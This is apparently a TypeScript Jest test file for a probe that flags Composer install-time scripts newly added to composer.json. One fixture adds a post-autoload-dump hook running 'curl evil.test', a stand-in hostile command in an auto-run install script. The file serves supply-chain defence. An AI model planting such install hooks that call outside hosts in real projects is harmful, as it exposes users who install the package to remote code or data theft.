import { describe, expect, test } from "@jest/globals";
import { lifecycleScripts } from "../../../src/probes/dependencies/lifecycle-scripts.js";
import { aFile } from "../../support/builders.js";
import { patchOf } from "./tables.js";

const said = (file: ReturnType<typeof aFile>): readonly string[] =>
  lifecycleScripts
    .ask(file)
    .flatMap(({ classId, tier, because }) => (classId === "build" ? [`${tier} ${because}`] : []));
const composer = (text: string): string => `{\n    "name": "acme/shop",\n    "license": "MIT"${text}\n}\n`;
const scripts = (text: string): string => composer(`,\n    "scripts": {\n${text}\n    }`);
const gains = (name: string): readonly string[] => [
  `approve composer.json gains the script "${name}", which runs by itself at install`,
];

describe("scripts that Composer runs at install", () => {
  test.each<{ why: string; before: string; after: string; says: readonly string[] }>([
    {
      why: "a new one",
      before: composer(""),
      after: scripts('        "post-install-cmd": "@php x.php"'),
      says: gains("post-install-cmd"),
    },
    {
      why: "a list of commands",
      before: composer(""),
      after: scripts('        "post-autoload-dump": [\n            "curl evil.test"\n        ]'),
      says: gains("post-autoload-dump"),
    },
    {
      why: "another command in a list",
      before: scripts('        "post-update-cmd": [\n            "a"\n        ]'),
      after: scripts('        "post-update-cmd": [\n            "b"\n        ]'),
      says: gains("post-update-cmd"),
    },
    { why: "one that somebody calls", before: composer(""), after: scripts('        "test": "phpunit"'), says: [] },
    { why: "one that is gone", before: scripts('        "post-install-cmd": "x"'), after: composer(""), says: [] },
    {
      why: "the same in another layout",
      before: scripts('        "post-install-cmd": ["a"]'),
      after: scripts('        "post-install-cmd": [\n            "a"\n        ]'),
      says: [],
    },
    {
      why: "a package of such a name",
      before: composer(""),
      after: composer(',\n    "require": {\n        "acme/post-install-cmd": "1.0"\n    }'),
      says: [],
    },
  ])("$why", ({ before, after, says }) => {
    expect({
      documents: said(aFile("composer.json", { content: { before, after }, patch: null })),
      patch: said(aFile("composer.json", { patch: patchOf(before, after) })),
    }).toEqual({ documents: says, patch: says });
  });
});
